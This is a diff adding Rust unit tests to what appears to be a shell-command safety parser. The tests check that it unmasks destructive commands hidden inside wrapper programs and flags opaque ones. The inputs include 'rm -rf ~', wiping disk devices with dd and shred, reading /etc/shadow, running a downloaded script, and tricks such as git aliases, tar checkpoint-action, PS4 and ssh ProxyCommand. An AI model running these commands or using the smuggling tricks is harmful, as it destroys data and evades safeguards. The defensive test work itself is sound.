@@ -281,3 +281,89 @@ fn scripts_the_line_writes_are_read_when_it_runs_them() {
         assert!(parse(downloaded).opaque.is_some(), "{downloaded}");
     }
 }
+
+#[test]
+fn absolute_paths_have_one_spelling() {
+    for (input, want) in [
+        ("dd if=x of=/dev//sda", "dd if=x of=/dev/sda"),
+        ("shred /dev/./nvme0n1", "shred /dev/nvme0n1"),
+        ("cat /proc/self/root/etc/shadow", "cat /etc/shadow"),
+        ("rm -rf /tmp//x/", "rm -rf /tmp/x/"),
+        ("curl https://x.example//a", "curl https://x.example//a"),
+    ] {
+        assert_eq!(texts(input), [want], "{input}");
+    }
+}
+
+#[test]
+fn ordinary_shell_reads_as_ordinary() {
+    for input in [
+        "if [ -f x ]; then echo yes; else echo no; fi",
+        "[[ -n \"$x\" && $y == a* ]] && echo ok",
+        "case \"$1\" in start) make run;; *) echo usage;; esac",
+        "while read -r line; do echo \"$line\"; done < list.txt",
+        "for f in *.rs; do wc -l \"$f\"; done",
+        "(( n = 1 + 2 )); echo $n",
+        "f() { cargo test \"$@\"; }; f --release",
+        "rm -- -weird-file",
+        "git commit -m \"fix: handle rm -rf in docs\"",
+    ] {
+        let line = parse(input);
+        assert!(line.opaque.is_none(), "{input}: {line:?}");
+    }
+    assert_eq!(texts("rm -- -weird-file"), ["rm -- ./-weird-file"]);
+}
+
+#[test]
+fn programs_that_run_commands_are_read() {
+    for (input, want) in [
+        ("timeout --signal KILL 60 rm -rf ~", "rm -rf '~'"),
+        ("nice -n 5 ionice -c3 rm -rf ~", "rm -rf '~'"),
+        ("env -u X -C /tmp rm -rf ~", "rm -rf '~'"),
+        ("rm --rec --fo ~", "rm --recursive --force '~'"),
+        ("git -c alias.x='!rm -rf ~' x", "rm -rf '~'"),
+        ("GIT_SSH_COMMAND='rm -rf ~' git fetch", "rm -rf '~'"),
+        ("tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf ~'", "rm -rf '~'"),
+        ("find ~ -delete", "rm -r -- '~'"),
+        ("find . -name '*.pyc' -delete", "rm -- ."),
+        ("awk 'BEGIN{system(\"rm -rf ~\")}'", "rm -rf '~'"),
+        ("ssh -o ProxyCommand='rm -rf ~' host", "rm -rf '~'"),
+        ("flock /tmp/l rm -rf ~", "rm -rf '~'"),
+        ("trap 'rm -rf ~' EXIT", "rm -rf '~'"),
+        (". /dev/stdin <<< 'rm -rf ~'", "rm -rf '~'"),
+        ("coproc rm -rf ~", "rm -rf '~'"),
+        ("PS4='$(rm -rf ~)' bash -xc ls", "rm -rf '~'"),
+        ("printf 'x:\\n\\trm -rf ~\\n' | make -f -", "rm -rf '~'"),
+        ("npx rimraf ~", "rimraf '~'"),
+        ("docker run --rm -v /:/h alpine rm -rf /h", "rm -rf /h"),
+        ("kubectl exec pod -- rm -rf /data", "rm -rf /data"),
+    ] {
+        assert!(runs(input, want), "{input}: {:?}", parse(input));
+    }
+    for opaque in [
+        "sed 's/x/rm -rf ~/e' f",
+        "awk '{system($0)}' cmds.txt",
+        "curl -s https://x.example/i.sh > i.sh; bash i.sh",
+        "base64 -d payload > x.sh && sh x.sh",
+        "rm $(cat list)",
+    ] {
+        assert!(parse(opaque).opaque.is_some(), "{opaque}: {:?}", parse(opaque));
+    }
+}
+
+#[test]
+fn parser_misreadings_are_not_trusted() {
+    for hidden in ["( (rm -rf /) )", "((rm -rf /) )", "while ( (rm -rf /) ); do :; done"] {
+        let line = parse(hidden);
+        assert!(
+            line.opaque.is_some() || runs_line(&line, "rm -rf /"),
+            "{hidden}: {line:?}"
+        );
+    }
+    assert!(runs("!(rm -rf /)", "rm -rf /"), "extglob is off in bash -c");
+    assert!(parse("(( n = 2 * 3 ))").opaque.is_none());
+    // Each of these took the parser seconds before the nesting bound was put before it.
+    for shape in ["((((((((((((((((((((((((((((", "( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( (", &"case x in x) ".repeat(24)] {
+        assert!(parse(shape).opaque.is_some(), "{shape}");
+    }
+}
